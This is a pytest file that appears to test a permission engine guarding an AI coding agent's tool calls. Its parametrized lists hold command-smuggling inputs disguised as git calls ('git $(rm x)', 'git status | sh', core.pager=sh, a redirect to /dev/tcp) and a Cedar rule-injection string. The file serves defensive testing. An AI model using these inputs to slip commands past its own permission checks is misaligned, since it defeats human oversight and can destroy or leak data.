"""Ways around rules: commands that hide what runs, imported lists that would be looser, labels that are slipped off."""

import pytest

from curtainwall.facts import parse_script
from curtainwall.model import Broken, Mode, Resource, Role, ToolEffect
from curtainwall.policy import Lists, Policy, RuleSource, import_permissions, judge, labels_of, load, shipped
from tests.support.policies import NO_PATHS, call, command, plain, policy, read, session, write

W = "/w"
FINANCE = '@id("finance") @label("sensitive") permit(principal, action == Action::"label", resource in Path::"/w/data/finance");'


def imported(**lists: list[str]) -> Policy:
    text = import_permissions({"permissions": {**lists}}, workspace=W, home="/home/ann").cedar_text
    return load((*shipped(), RuleSource("claude.cedar", text, user=True)), lists=Lists(), protection=NO_PATHS)


def effect(rules: Policy, *resources: Resource, name: str = "shell.run", mode: Mode = Mode.DEFAULT) -> str:
    return judge(rules, call(*resources, name=name), session(W, mode=mode)).effect.value


@pytest.mark.parametrize(
    "text",
    [
        "git config core.pager sh --get", "git config alias.x '!sh' -l", "git config a.b c --list", "git merge-index sh -a",
        "git submodule--helper foreach sh", "git fetch -- 'ext::sh -c x'", "git clone -- \"$X\" y", "git add -- ext::x",
        "git status && rm x", "git status\nrm x", "git $(rm x)", "git status | sh", "git -c core.pager=sh log", "git --exec-path=. x",
        "PATH=. git status", "env PATH=. git status", "git push --rec=sh", "git(){ rm x; }; git status", "git grep -Osh x",
        "alias git=rm; git x",
        "git status > $X", "git status > /dev/tcp/1.1.1.1/80", "bash -c 'rm x' git", "xargs git", "git \\\n; rm x",
        "git status <<EOF\n$(rm x)\nEOF", "git log ${x:=$(rm x)}",
    ],
)  # fmt: skip
def test_no_command_runs_something_else_under_the_name_of_git(text: str) -> None:
    rules = imported(allow=["Bash(git *)"])
    judged = [effect(rules, command(it.text, parsed=it.parsed)) for it in parse_script(text).commands]
    assert set(judged) != {"allow"}, list(zip(parse_script(text).commands, judged, strict=True))


@pytest.mark.parametrize("text", ["git status", "git log -- src", "git config --get user.name", "git fetch -- origin", "git add -- *.py"])
def test_plain_git_is_still_allowed_by_its_pattern(text: str) -> None:
    (found,) = parse_script(text).commands
    assert effect(imported(allow=["Bash(git *)"]), command(found.text, parsed=found.parsed)) == "allow"


@pytest.mark.parametrize("name", ["srv.do_it", "srv.do.it", "srv.do/it"])
def test_a_denied_mcp_tool_is_denied_under_every_name_that_claude_code_spells_so(name: str) -> None:
    rules = imported(allow=["mcp__srv"], deny=["mcp__srv__do_it"])
    assert judge(rules, call(name=name), session(W)).effect == "deny"
    assert judge(rules, call(name="srv.doxit"), session(W)).effect == "allow"


def test_a_denied_mcp_tool_of_many_words_is_denied_in_every_spelling() -> None:
    rules = imported(allow=["mcp__srv"], deny=["mcp__srv__a_b_c_d_e_f"])
    assert judge(rules, call(name="srv.a.b_c/d.e_f"), session(W)).effect == "deny"


@pytest.mark.parametrize(
    "entry",
    ['Bash(x") permit(principal,action,resource);//)', "Read(*)", 'Bash(")', "Bash(\\)", "WebFetch(domain:*)", 'mcp__a__b"', "Read(!x)",
     "Read([a-)",
     "Bash(a\nb)", "Read(" + "**/" * 40 + "x)", "*", "Write(//**)"],
)  # fmt: skip
def test_an_imported_deny_is_never_looser_and_no_entry_breaks_out_of_its_rule(entry: str) -> None:
    for listed in ("allow", "deny", "ask"):
        try:
            rules = imported(**{listed: [entry]})
        except Broken:
            continue
        assert effect(rules, plain(Role.USE_CREDENTIAL, "key")) != "allow"
        assert effect(rules, write("/elsewhere/x")) != "allow" or entry == "Write(//**)"
        if listed == "deny" and entry.startswith("Read(*"):
            assert effect(rules, read("/w/x")) == "deny"


def test_moving_away_what_holds_labelled_files_sets_the_label() -> None:
    rules = policy(FINANCE)
    facts = session(W)

    def moved(source: str) -> list[str]:
        gone = Resource(role=Role.DELETE_PATH, value=source)
        away = call(read(source), gone, write("/w/x"), name="filesystem.move_file", effect=ToolEffect.MODIFY)
        return [label for label, _ in labels_of(rules, away, facts)]

    assert moved("/w/data") == ["sensitive"]
    assert moved("/w/src") == []
    assert labels_of(rules, call(read("/w"), name="filesystem.list_directory"), facts) == ()


@pytest.mark.parametrize(("name", "where"), [("git.show", "/w"), ("git.diff", "/w/src"), ("git.log", "/w")])
def test_git_reads_every_labelled_file_of_its_repository(name: str, where: str) -> None:
    brought = labels_of(policy(FINANCE), call(read(where), name=name), session(W))
    assert [label for label, _ in brought] == ["sensitive"]


def test_plan_mode_stays_without_writing_whatever_an_allow_list_says() -> None:
    rules = imported(allow=["Edit", "Write", "Bash"])
    for resource in (write("/w/x"), command("rm x"), Resource(role=Role.DELETE_PATH, value="/w/x")):
        assert effect(rules, resource, mode=Mode.PLAN) == "deny"
